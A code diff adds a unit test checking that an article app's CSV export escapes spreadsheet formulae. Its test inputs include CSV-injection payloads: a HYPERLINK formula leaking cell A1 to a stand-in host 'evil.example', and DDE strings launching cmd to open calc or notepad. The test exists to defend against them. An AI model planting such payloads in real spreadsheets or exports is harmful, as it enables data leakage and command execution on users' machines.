@@ -15,6 +15,8 @@ import { saveArticle } from '@/utils/storage/save-article';
 import { parseBookmarksHtml } from '@/utils/data/import/parse-bookmarks-html';
 import Papa from 'papaparse';
 import { extracted, seedLibrary } from '../../../helpers/seed-library';
+import { makeRow } from '../../../helpers/make-article';
+import type { Article } from '@/utils/article';
 
 const win = new JSDOM('').window as unknown as Window & typeof globalThis;
 /** A real 1×1 PNG (EPUBCheck inspects image headers). */
@@ -132,5 +134,19 @@ describe('bookmarks and CSV of the list', () => {
       status: 'unread',
     });
     expect(rows[0]).toMatchObject({ tags: 'news|t1', progress: '0.42', favorite: 'yes' });
+  });
+  it('escapes formulae: a title, byline or tag from a saved page never becomes a live spreadsheet cell', () => {
+    const row = (over: Partial<Article>) => ({ ...makeRow(9), ...over });
+    const csv = articlesToCsv([
+      row({ title: '=HYPERLINK("https://evil.example/?"&A1,"Click")', byline: "@SUM(1+1)*cmd|' /C calc'!A0" }),
+      row({ title: "+cmd|' /C notepad'!A0", tags: ['-2+3', 'fine'], byline: '\t=1+1' }),
+    ]);
+    const rows = Papa.parse<Record<string, string>>(csv, { header: true }).data;
+    // Every cell that a spreadsheet would evaluate starts with a quote mark instead (papaparse escapeFormulae).
+    for (const cell of rows.flatMap((r) => [r.title, r.byline, r.tags])) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(rows[0].title).toBe('\'=HYPERLINK("https://evil.example/?"&A1,"Click")');
+    expect(rows[1].tags).toBe("'-2+3|fine");
+    // Plain values are untouched.
+    expect(rows[0].url).toBe('https://example.com/9');
   });
 });
